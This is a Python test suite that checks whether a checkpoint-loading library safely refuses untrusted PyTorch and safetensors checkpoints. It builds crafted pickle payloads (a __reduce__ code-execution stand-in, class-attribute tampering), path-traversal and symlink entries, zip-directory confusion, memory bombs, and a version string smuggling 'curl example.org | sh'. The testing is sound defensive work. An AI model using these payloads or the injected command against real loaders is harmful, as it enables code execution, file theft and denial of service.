"""Checkpoints that somebody else has made, of the formats that are pickles and of the one that is
none: no code is run, no file outside is read, and no class is changed.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import tracemalloc
import zipfile
import zlib
from collections import Counter, OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import (
    BytesStorageMetadata,
    MetadataIndex,
    TensorStorageMetadata,
)

from torchbus_checkpoint import show
from torchbus_checkpoint.command import NO_LOOP
from torchbus_checkpoint.disk import choice, folder, pickled, tensors
from torchbus_checkpoint.errors import CheckpointError
from torchbus_checkpoint.show import check, reading

from .command.resealed import reseal
from .test_formats import FORMATS

NAME = "model.0.weight"


def resealed(one: Path) -> None:
    """With right checksums: whoever changes a file can compute them."""
    manifest = json.loads((one / "manifest.json").read_text())
    for name in list(manifest["files"]):
        data = (one / name).read_bytes() if (one / name).is_file() else b""
        entry = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        manifest["files"][name] = entry
    del manifest["sha256"]
    digest = hashlib.sha256(json.dumps(manifest, sort_keys=True).encode()).hexdigest()
    (one / "manifest.json").write_text(json.dumps(manifest | {"sha256": digest}))


def loaded(one: Path) -> list[Any]:
    """All that a loop would be given, and what ``export`` writes."""
    check(one)
    saved, weights, read = choice.loaded(one, NO_LOOP)
    read()
    return [saved, weights, folder.read_file(one, "rank-0")]


def of_format(number: int, kind: str, tmp_path: Path) -> Path:
    return Path(shutil.copytree(FORMATS / str(number) / kind, tmp_path / "step-00000007"))


class Code:
    def __reduce__(self) -> Any:
        return Path.touch, (Path("code_ran"),)


def with_index(one: Path, change: Callable[[Any], None]) -> None:
    index = pickle.loads((one / ".metadata").read_bytes())
    change(index)
    (one / ".metadata").write_bytes(pickle.dumps(index))
    resealed(one)


def bytes_in_place_of_a_tensor(one: Path) -> None:
    def change(index: Any) -> None:
        payload = io.BytesIO()
        torch.save(Code(), payload)
        data = (one / "__0_0.distcp").read_bytes()
        (one / "__0_0.distcp").write_bytes(data + payload.getvalue())
        index.state_dict_metadata[NAME] = BytesStorageMetadata()
        index.storage_data = {k: v for k, v in index.storage_data.items() if k.fqn != NAME}
        where = _StorageInfo("__0_0.distcp", len(data), len(payload.getvalue()))
        index.storage_data[MetadataIndex(NAME)] = where

    with_index(one, change)


def code_in_place_of_a_part(one: Path) -> None:
    bytes_in_place_of_a_tensor(one)

    def change(index: Any) -> None:
        at = MetadataIndex(NAME)
        index.state_dict_metadata[NAME] = index.state_dict_metadata["model.0.bias"]
        index.storage_data[MetadataIndex(NAME, torch.Size([0]))] = index.storage_data.pop(at)

    with_index(one, change)


def elsewhere(path: str) -> Callable[[Path], None]:
    def change(one: Path) -> None:
        torch.save(torch.full((2, 3), 7.0), one.parent / "private.pt")
        os.mkfifo(one / "pipe")
        os.symlink(one.parent / "private.pt", one / "link")
        where = path.replace("ABSOLUTE", str(one.parent / "private.pt"))

        def change(index: Any) -> None:
            for key, info in list(index.storage_data.items()):
                if key.fqn == NAME:
                    index.storage_data[key] = _StorageInfo(where, 0, info.length)

        with_index(one, change)

    return change


def named_by_the_manifest(name: str) -> Callable[[Path], None]:
    def change(one: Path) -> None:
        elsewhere(name)(one)
        manifest = json.loads((one / "manifest.json").read_text())
        manifest["files"][name] = {}
        (one / "manifest.json").write_text(json.dumps(manifest))
        resealed(one)

    return change


def an_attribute_of_a_class(one: Path) -> None:
    good = (one / ".metadata").read_bytes()

    def text(one: bytes) -> bytes:
        return b"X" + len(one).to_bytes(4, "little") + one

    name = b"ctorch.distributed.checkpoint.metadata\nTensorStorageMetadata\n"
    evil = b"\x80\x02" + name + b"N}" + text(b"changed") + text(b"yes") + b"s\x86b0" + good[2:]
    (one / ".metadata").write_bytes(evil)
    resealed(one)


def room_for_billions(one: Path) -> None:
    good = (one / ".metadata").read_bytes()
    (one / ".metadata").write_bytes(good[:2] + b"Nr\xff\xff\xff\x7f0" + good[2:])
    resealed(one)


def code_in_the_index(one: Path) -> None:
    (one / ".metadata").write_bytes(pickle.dumps(Code()))
    resealed(one)


def deflated(one: Path) -> None:
    with zipfile.ZipFile(one / "training.pt") as old:
        parts = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(one / "training.pt", "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    resealed(one)


def a_key_that_is_never_hashed() -> bytes:
    """A tuple of two tuples of two tuples and so on, sixty times."""
    nested = b"".join(b"h%ch%c\x86q%c" % (n, n, n + 1) for n in range(60))
    return b"\x80\x02)q\x00" + nested + b"}h\x3cK\x00s."


def with_pickle(one: Path, text: bytes, name: str = "data.pkl") -> None:
    (one / "training.pt").write_bytes(zipped(one, text, name))
    resealed(one)


def zipped(one: Path, text: bytes, name: str = "data.pkl") -> bytes:
    """The file of training, with another pickle in it."""
    made = io.BytesIO()
    with zipfile.ZipFile(one / "training.pt") as old, zipfile.ZipFile(made, "w") as new:
        for at in old.namelist():
            is_it = at.endswith("data.pkl")
            new.writestr(at.replace("data.pkl", name), text if is_it else old.read(at))
    return made.getvalue()


def such_a_key(one: Path) -> None:
    with_pickle(one, a_key_that_is_never_hashed())


def such_a_key_in_the_index(one: Path) -> None:
    (one / ".metadata").write_bytes(a_key_that_is_never_hashed())
    resealed(one)


def large_numbers(one: Path) -> None:
    """As keys, multiples of 2**61 - 1 have one hash."""
    with_registered(one, [number << 64 for number in range(10_002)])


def itself_again_and_again(one: Path) -> None:
    content: list[Any] = []
    for _ in range(60):
        content = [content, content]
    with_registered(one, content)


def with_registered(one: Path, content: Any) -> None:
    saved = torch.load(one / "training.pt", weights_only=True)
    torch.save(saved | {"registered": {"it": content}}, one / "training.pt")
    resealed(one)


def rows_that_overlap(one: Path) -> None:
    """3.6 GB of numbers from 240 KB."""
    with_registered(one, torch.arange(60_000.0).as_strided((30_000, 30_000), (1, 1)))


def views_of_one_storage(one: Path) -> None:
    numbers = torch.arange(100_000.0)
    with_registered(one, [numbers[start:] for start in range(1000)])


def many_times_by_sparse(one: Path) -> None:
    indices = torch.arange(100_000)[None]
    values = torch.ones(1).as_strided((100_000, 300), (0, 0))
    sizes = (100_000, 300)
    with_registered(one, torch.sparse_coo_tensor(indices, values, sizes, check_invariants=True))


def an_index_out_of_the_memory(one: Path) -> None:
    indices, values = torch.tensor([[-(1 << 40)]]), torch.ones(1)
    with_registered(one, torch.sparse_coo_tensor(indices, values, (3,), check_invariants=False))


def without_numbers(one: Path) -> None:
    with_registered(one, torch.empty(1 << 40, device="meta"))


@pytest.mark.parametrize(
    "change",
    [
        bytes_in_place_of_a_tensor,
        code_in_place_of_a_part,
        elsewhere("../private.pt"),
        elsewhere("ABSOLUTE"),
        elsewhere("pipe"),
        elsewhere("link"),
        named_by_the_manifest("pipe"),
        named_by_the_manifest("link"),
        an_attribute_of_a_class,
        room_for_billions,
        code_in_the_index,
        deflated,
        such_a_key,
        such_a_key_in_the_index,
        large_numbers,
        itself_again_and_again,
        rows_that_overlap,
        views_of_one_storage,
        many_times_by_sparse,
        an_index_out_of_the_memory,
        without_numbers,
    ],
)
def test_one_of_an_old_format(
    change: Callable[[Path], None], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    one = of_format(2, "parts", tmp_path)
    loaded(one)
    change(one)
    with pytest.raises(CheckpointError, match="step-00000007"):
        loaded(one)
    for step in (choice.loaded, check):
        with pytest.raises(CheckpointError, match="step-00000007"):
            read = step(one, *([NO_LOOP] if step is choice.loaded else []))[2]  # type: ignore[index]
            read()
    assert not Path("code_ran").exists()
    assert not hasattr(TensorStorageMetadata, "changed")


def pickle_in(one: Path) -> bytes:
    with zipfile.ZipFile(one / "training.pt") as archive:
        return archive.read(next(n for n in archive.namelist() if n.endswith("data.pkl")))


def in_capitals(one: Path) -> None:
    large_numbers(one)
    with_pickle(one, pickle_in(one), "DATA.PKL")


def before_the_zip(one: Path) -> None:
    """torch looks at the first bytes of a file, and Python at the last ones."""
    old, saved = io.BytesIO(), torch.load(one / "training.pt", weights_only=True)
    torch.save(saved, old, _use_new_zipfile_serialization=False)
    (one / "training.pt").write_bytes(old.getvalue() + (one / "training.pt").read_bytes())
    resealed(one)


def of_two_directories(one: Path) -> None:
    """torch finds the first one by its place in the file, and Python the one before the end."""
    good = pickle_in(one)
    large_numbers(one)
    evil = pickle_in(one)
    seen = zipped(one, good + bytes(len(evil) - len(good)))
    (one / "training.pt").write_bytes(zipped(one, evil)[:-22] + seen)
    resealed(one)


@pytest.mark.parametrize("change", [in_capitals, before_the_zip, of_two_directories])
def test_a_pickle_that_only_torch_finds(change: Callable[[Path], None], tmp_path: Path) -> None:
    one = of_format(2, "whole", tmp_path)
    change(one)
    with pytest.raises(CheckpointError, match="training.pt holds content that torchbus did not"):
        loaded(one)


def text(content: str) -> bytes:
    return b"X" + len(content).to_bytes(4, "little") + content.encode()


def many_bytes(one: Path) -> None:
    number = (50_000_000).to_bytes(4, "little")
    with_pickle(one, b"\x80\x02cbuiltins\nbytearray\nJ" + number + b"\x85R.")


def twice_as_long_again_and_again(one: Path) -> None:
    start = b"\x80\x02c_codecs\nencode\nq\0" + text("x") + text("latin1") + b"\x86Rq\1"
    step = b"h\0h\1" + text("hex_codec") + b"\x86Rq\1"
    with_pickle(one, start + step * 25 + b".")


def one_place_again_and_again(one: Path) -> None:
    """Fifty entries of a directory are one megabyte of the file."""
    name, data = b"archive/data.pkl", bytes(1 << 20)
    facts = struct.pack("<IIIHH", zlib.crc32(data), len(data), len(data), len(name), 0)
    local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 0, 0, 0) + facts + name + data
    entry = b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 0, 0, 0) + facts + bytes(14) + name
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 50, 50, 50 * len(entry), len(local), 0)
    (one / "training.pt").write_bytes(local + entry * 50 + end)
    resealed(one)


@pytest.mark.parametrize(
    "change", [many_bytes, one_place_again_and_again, twice_as_long_again_and_again]
)
def test_a_pickle_that_asks_for_memory(change: Callable[[Path], None], tmp_path: Path) -> None:
    one = of_format(2, "whole", tmp_path)
    change(one)
    tracemalloc.start()
    try:
        with pytest.raises(CheckpointError, match="step-00000007"):
            folder.read_file(one, "training")
        assert tracemalloc.get_traced_memory()[1] < 1 << 22
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("read", [pickled.index, pickled.read])
def test_a_key_that_is_too_deep(read: Callable[[Any], Any], tmp_path: Path) -> None:
    """Python's hash of a tuple in tuples, a hundred times deeper, ends the process."""
    one, key = of_format(2, "whole", tmp_path), b"\x80\x02})" + b"\x85" * 3000 + b"Ns."
    data = key if read is pickled.index else zipped(one, key)
    with pytest.raises(ValueError, match="it holds more than"):
        read(io.BytesIO(data))


FEW = b"".join(b"M" + number.to_bytes(2, "little") + b"N" for number in range(4000))
ORDERED, SIZE = b"ccollections\nOrderedDict\nq\1", b"ctorch\nSize\nq\1"


@pytest.mark.parametrize(
    "evil",
    [
        b"}(" + FEW + b"uq\0" + ORDERED + b"h\0\x85R" * 1000,
        b"}q\0(" + FEW + b"u" + ORDERED + b"h\0\x85R" * 1000,  # is filled after it has its name
        b"}q\0\x85q\2h\0(" + FEW + b"u" + ORDERED + b"h\1h\2R" * 1000,
        b"}q\0(" + FEW + b"u" + ORDERED + b"h\1)Rh\0b" * 1000,
        text("x" * 8000) + b"q\0" + SIZE + b"h\1h\0\x85R" * 1000,
        b"c_codecs\nencode\nq\1"
        + text("x" * 8000)
        + text("latin1")
        + b"\x86q\2"
        + b"h\1h\2R" * 1000,
    ],
)
def test_copies_by_a_pickle_are_counted(evil: bytes, tmp_path: Path) -> None:
    """Together they would be eight million items of 30 KB."""
    one = of_format(2, "parts", tmp_path)
    data = b"\x80\x02(" + evil + b"t."
    for read, content in ((pickled.index, data), (pickled.read, zipped(one, data))):
        with pytest.raises(ValueError, match="it holds more than"):
            read(io.BytesIO(content))


def test_bytes_as_torch_writes_them_are_read(tmp_path: Path) -> None:
    one, content = of_format(2, "whole", tmp_path), [b"abc\xff", {1, 2}, 1j, torch.device("cpu")]
    more = [torch.Size([1]), Counter("aab"), OrderedDict(a=1), torch.float8_e4m3fn, torch.strided]
    with_registered(one, [*content, *more, torch.ones(2, dtype=torch.uint16)])
    assert equal(folder.read_file(one, "training")["registered"]["it"][:9], [*content, *more])


def test_numbers_behind_the_file(tmp_path: Path) -> None:
    """torch before 2.10 takes them from the memory behind the entry."""
    one = of_format(2, "whole", tmp_path)
    with_registered(one, torch.zeros(77, dtype=torch.uint8))
    data = pickle_in(one)
    assert data.count(b"KM") == 2  # of the storage, and of the tensor
    with_pickle(one, data.replace(b"KM", b"M\0\4"))
    with pytest.raises(CheckpointError, match="1024 numbers of a ByteStorage in it have 77 bytes"):
        folder.read_file(one, "training")


class Stack(list[Any]):
    num_read = 0

    def __getitem__(self, at: Any) -> Any:
        self.num_read += len(range(len(self))[at]) if isinstance(at, slice) else 1
        return super().__getitem__(at)


def test_a_mark_above_many_values_is_found_at_once() -> None:
    """Otherwise a file of a megabyte, half of it marks, takes an hour."""
    stack = Stack([pickled.ONE] * 1000 + [None, pickled.ONE])
    assert pickled._popped(pickletools.code2op["t"], stack) == [pickled.ONE]
    assert len(stack) == 1000 and stack.num_read < 10


def test_tensors_that_share_memory_are_read(tmp_path: Path) -> None:
    """As in a model whose parameters are views of one vector."""
    one, numbers = of_format(2, "whole", tmp_path), torch.arange(100_000.0)
    with_registered(one, [numbers, numbers, *numbers.view(100, 1000), torch.eye(3).to_sparse()])
    assert len(loaded(one)[0]["registered"]["it"]) == 103


@pytest.mark.parametrize(
    ("name", "value"),
    [("step", 1 << 64), ("world_size", 10**400), ("metric", 10**400)],
)
def test_numbers_that_nothing_counts(name: str, value: int, tmp_path: Path) -> None:
    one = of_format(3, "whole", tmp_path)
    manifest = json.loads((one / "manifest.json").read_text())
    (one / "manifest.json").write_text(json.dumps(manifest | {name: value}))
    resealed(one)
    with pytest.raises(CheckpointError, match=f"{name}: "):
        loaded(one)


@pytest.mark.parametrize("name", ["a\0b", "\ud800"])
def test_names_that_no_file_can_have(name: str, tmp_path: Path) -> None:
    one = of_format(3, "whole", tmp_path)
    reseal(one, lambda manifest: manifest["files"].update({name: {"bytes": 0, "sha256": ""}}))
    with pytest.raises(CheckpointError, match="manifest.json can't be read"):
        loaded(one)


@pytest.mark.parametrize("name", ["manifest.json", "training.safetensors"])
def test_more_than_a_run_holds(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Millions of empty lists take a hundred times the memory of their text."""
    one = of_format(3, "whole", tmp_path)
    loaded(one)
    monkeypatch.setattr("torchbus_checkpoint.state.jsonable.MOST_ITEMS", 2000)
    if name == "manifest.json":
        manifest = json.loads((one / name).read_text())
        (one / name).write_text(json.dumps(manifest | {"more": [[]] * 2000}))
    else:
        content = folder.read_file(one, "training")
        (one / name).unlink()
        folder.write_file(one, name, content | {"more": [[]] * 2000})
    resealed(one)
    with pytest.raises(CheckpointError, match=f"{name} .*more than 2000 lists and objects"):
        loaded(one)


def test_no_command_is_advised_that_a_stranger_has_written(tmp_path: Path) -> None:
    """But to install a version, if it is one."""
    one = of_format(3, "whole", tmp_path)
    manifest = json.loads((one / "manifest.json").read_text())
    for writer, remedy in (
        ("9.1.0rc1", "pip install 'torchbus-checkpoint>=9.1.0rc1'"),
        ("9' evil; curl example.org | sh '", "install the version that wrote it"),
    ):
        newer = manifest | {"version": 9, "written_by": {"torchbus": writer}}
        (one / "manifest.json").write_text(json.dumps(newer))
        resealed(one)
        with pytest.raises(CheckpointError) as refused:
            folder.manifest(one)
        assert str(refused.value).endswith(f"reads formats 1 to 3: {remedy}")


def again_and_again(parts: Any) -> None:
    parts["model.0.weight"] *= 1000


def larger(parts: Any) -> None:
    for part in parts["model.0.weight"]:
        part[1] = [1 << 40, 3]


def outside(parts: Any) -> None:
    parts["model.0.weight"][0][0] = [3, 0]


@pytest.mark.parametrize("change", [again_and_again, larger, outside])
def test_parts_that_are_not_the_whole(change: Callable[[Any], None], tmp_path: Path) -> None:
    one = of_format(3, "parts", tmp_path)
    with (one / "part-0.safetensors").open("rb") as file, tensors.reading(file) as reader:
        content = reader.content()
    change(content)
    (one / "part-0.safetensors").unlink()
    folder.write_file(one, "part-0.safetensors", content)
    resealed(one)
    with pytest.raises(CheckpointError, match="its parts holds content that torchbus did not"):
        loaded(one)


@pytest.mark.parametrize("times", [3, 400])
def test_one_file_for_many_models(times: int, tmp_path: Path, monkeypatch: Any) -> None:
    """Each time that it is named, it would be read, and kept."""
    one = of_format(3, "whole", tmp_path)
    content = folder.read_file(one, "training")
    assert len(content["weights"]) == 3
    (one / "training.safetensors").unlink()
    content["weights"] = content["weights"][:1] * times
    folder.write_file(one, "training.safetensors", content)
    resealed(one)
    seen, described, read_file = list[str](), folder.described, folder.read_file

    def spy(of: Callable[..., Any]) -> Callable[..., Any]:
        return lambda place, name, *more: [seen.append(name), of(place, name, *more)][1]

    monkeypatch.setattr(folder, "described", spy(described))
    monkeypatch.setattr(folder, "read_file", spy(read_file))
    with pytest.raises(CheckpointError, match=f"1 files of weights, {times} times"):
        choice.loaded(one, NO_LOOP)
    with (
        pytest.raises(CheckpointError, match=f"1 files of weights, {times} times"),
        reading(one),
    ):
        show.described(one, folder.manifest(one))
    assert seen == ["training", "training"]


def equal(one: Any, other: Any) -> bool:
    if isinstance(one, torch.Tensor):
        return isinstance(other, torch.Tensor) and one.equal(other)
    if isinstance(one, dict):
        return [*one] == [*other] and all(map(equal, one.values(), other.values()))
    if isinstance(one, list | tuple):
        return len(one) == len(other) and all(map(equal, one, other))
    return bool(one == other)


CASES = [(number, kind) for number in (2, 3) for kind in ("whole", "parts")]
SAME = {case: loaded(FORMATS / str(case[0]) / case[1]) for case in CASES}


def changed(data: st.DataObject, content: bytes) -> bytes:
    """A few bytes of it are other ones, a piece is missing, twice, or another one."""
    at = data.draw(st.integers(0, len(content) - 1) | st.integers(0, min(300, len(content) - 1)))
    end = at + data.draw(st.integers(0, 9))
    piece = data.draw(st.binary(max_size=9) | st.sampled_from([b"9" * 9, b"../x", content[at:end]]))
    return content[:at] + piece + content[end:]


@settings(max_examples=50, deadline=None)
@given(st.data())
def test_whatever_is_in_it(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    """Any bytes, names, sizes and paths: loaded as it was, or refused by torchbus itself, and the
    memory stays within what the files have.
    """
    case = data.draw(st.sampled_from(CASES))
    one = of_format(*case, tmp_path_factory.mktemp("foreign"))
    for _ in range(data.draw(st.integers(1, 3))):
        victim = one / data.draw(st.sampled_from(sorted(os.listdir(one))))
        if data.draw(st.integers(0, 9)):
            victim.write_bytes(changed(data, victim.read_bytes()))
        else:
            victim.rename(one / data.draw(st.sampled_from([*os.listdir(one), "other"])))
    in_order = data.draw(st.booleans(), "with right checksums")
    if in_order:
        try:
            resealed(one)
        except (ValueError, LookupError, TypeError, AttributeError, OSError):
            in_order = False
    tracemalloc.start()
    try:
        found = loaded(one)
    except CheckpointError as error:
        assert "step-00000007" in str(error)
    else:
        assert in_order or equal(found, SAME[case])
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        shutil.rmtree(one.parent)
    assert peak < 1 << 26
